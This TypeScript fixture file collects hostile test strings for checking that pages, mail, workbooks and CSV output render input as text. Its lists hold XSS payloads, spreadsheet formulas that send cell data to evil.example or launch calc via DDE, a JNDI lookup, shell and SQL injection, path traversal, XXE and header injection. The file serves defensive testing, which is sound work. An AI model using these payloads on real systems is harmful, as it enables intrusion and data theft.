// Inputs of attackers and accidents: each payload in each wrapper known to have bypassed some check. Pages, mail,
// workbooks and CSV must show them as text.

/** Set on `window` by every script below that runs. */
export const RAN = 'hostileScriptRan'

const RUN = `window.${RAN}=1`

/** Run by a page that treats them as markup. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT >`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<iframe srcdoc="<script>parent.${RAN}=1</script>"></iframe>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x`,
  `<input autofocus onfocus=${RUN}>`,
  `<a href="javascript:${RUN}">link</a>`,
  `<form action=//evil.example><button>Save</button></form>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<style>*{display:none}</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<!--><script>${RUN}</script>-->`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
] as const

/** Run by a spreadsheet that treats them as formulas. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example/"&A2)',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|calc',
  '-1',
  '@SUM(1+1)*cmd|calc',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  ';=1+1',
  ',=1+1',
  '";=1+1;"',
] as const

/** Evaluated or resolved by a template, a query, a log or a path. */
const INJECTIONS = [
  '{{constructor.constructor("return process")()}}',
  '${process.env.SECRET}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{% debug %}',
  '[[${7*7}]]',
  '{{7*7}}',
  '%{(#a=1)}',
  '%s%s%s%n%x',
  '$(touch /tmp/x)',
  '`touch /tmp/x`',
  '; touch /tmp/x;',
  '${jndi:ldap://evil.example/a}',
  "' or '1'='1",
  "'; drop table clients; --",
  '" or ""="',
  "\\'; select pg_sleep(10); --",
  '$$; select 1; $$',
  '%_%',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '__proto__',
  'constructor',
  'toString',
  '{"$gt":""}',
  '*)(uid=*))(|(uid=*',
  'x\r\nBcc: victim@mail.example\r\n\r\nbody',
  'x\r\nSet-Cookie: session=1',
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'vbscript:msgbox(1)',
  '//evil.example/x',
  '/\\evil.example',
  'https://user:pass@evil.example\\@switchboard.example/',
  '[link](javascript:alert(1))',
  '![x](//evil.example/x.png)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '_x003C_script_x003E_',
  '_x000D__x0000_',
  '</title></head></t></is></c></row></sheetData><f>1+1</f>',
  ']]><f>1+1</f><![CDATA[',
  '</script></textarea></style></title>',
] as const

/** Break code that measures, sorts or renders text. */
const TEXTS = [
  '\u202Egpj.exe',
  '\u202Dabc\u202C',
  '\u2066isolated\u2069',
  '\u2067right\u2069 to left',
  '\u200Fright\u200E left',
  'zero\u200Bwidth\u200C\u200D\uFEFF',
  'soft\u00ADhyphen',
  'no\u00A0break\u2003space\u3000',
  'line\u2028separator\u2029paragraph',
  'Z̴̡͓a̷l̵g̸o̴'.normalize('NFD') + '\u0301'.repeat(60),
  'е-mail in Cyrillic: раураl.example',
  'ﷺ﷽'.repeat(20),
  '👩‍👩‍👧‍👦🏳️‍🌈🇺🇸',
  '𝕊𝕦𝕣𝕣𝕠𝕘𝕒𝕥𝕖𝕤',
  'مرحبا بالعالم <b>bold</b>',
  'שלום עולם (1)',
  '\u{E0041}\u{E0042}tag characters',
  '\uFFFD\uFFFE\uFFFF',
  'İıſK',
  'null',
  'undefined',
  'NaN',
  '-0',
  '1e309',
  '0x1F',
  '0012',
  '1/2',
  '2024-02-30',
  '12:00',
  'TRUE',
  '#REF!',
] as const

/** Not storable in a database, an XML file or UTF-8: refused with a message, or left out. */
const UNSTORABLE = [
  'nul\0in the middle',
  '\0',
  `\0<script>${RUN}</script>`,
  '\0=1+1',
  'half a pair \uD83D',
  '\uDE00 the other half',
] as const

/** Allowed in a database, but not in XML 1.0. */
const CONTROLS = [
  'bell\u0007 and escape\u001B[31m red',
  '\u0001\u0002\u0003\u0004\u0005\u0006\u0008\u000E\u001F',
  'vertical\vtab form\ffeed',
  'delete\u007F and C1 \u0080\u009F',
  '\u001B]0;title\u0007',
] as const

const LONG = [
  'A'.repeat(33_000),
  `${'A'.repeat(32_760)}😀😀😀😀`,
  '<b>'.repeat(4_000),
  '('.repeat(10_000),
  `${'a'.repeat(200)}!`.repeat(20),
  `=${'1+'.repeat(4_000)}1`,
  '\u202E'.repeat(2_000),
  ' '.repeat(5_000) + '=1+1',
  '\n'.repeat(3_000) + 'x',
] as const

const WRAPPERS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => ` \u00A0${payload}`,
  (payload) => `"'>${payload}`,
  (payload) => `\t${payload}\r\n`,
  // Neither is whitespace, and both are invisible.
  (payload) => `\u200B\u202E${payload}`,
]

/** All of them, without duplicates. */
export const HOSTILE_STRINGS: readonly string[] = [
  ...new Set([
    ...[...MARKUP, ...FORMULAS, ...INJECTIONS, ...TEXTS, ...CONTROLS].flatMap((payload) =>
      WRAPPERS.map((wrap) => wrap(payload)),
    ),
    ...UNSTORABLE,
    ...LONG,
  ]),
]

/** Those a database can store: without NUL or lone surrogates. */
export const STORABLE_HOSTILE_STRINGS: readonly string[] = HOSTILE_STRINGS.filter(
  (text) => !text.includes('\0') && text.isWellFormed(),
)

/** Strings that break out of many contexts at once. */
export const POLYGLOTS: readonly string[] = [
  `"'></title></textarea></style></script><script>${RUN}</script>`,
  `'"--><svg/onload=${RUN}>`,
  `"'\`><img src=x onerror=${RUN}>`,
  `javascript:/*--></title></style></textarea></script><svg onload="${RUN}">*/${RUN}`,
  `</script><script>${RUN}//`,
  `\u2028\u2029</script><!--<script>${RUN}`,
  `]]>--><iframe srcdoc="<script>parent.${RAN}=1</script>">`,
  `" autofocus onfocus=${RUN} x="`,
  `' formaction='//evil.example`,
  `<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">`,
  `<template shadowrootmode=open><style>*{display:none}</style><script>${RUN}</script></template>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;&#60;img src=x onerror=${RUN}&#62;`,
  `{{constructor.constructor("${RUN}")()}}\${process.env.SECRET}<%= 7*7 %>`,
  `x\r\nSet-Cookie: __session=1\r\n\r\n<script>${RUN}</script>`,
  `\u202E\u200B<ScRiPt>${RUN}</sCrIpT >'); drop table clients; --`,
]
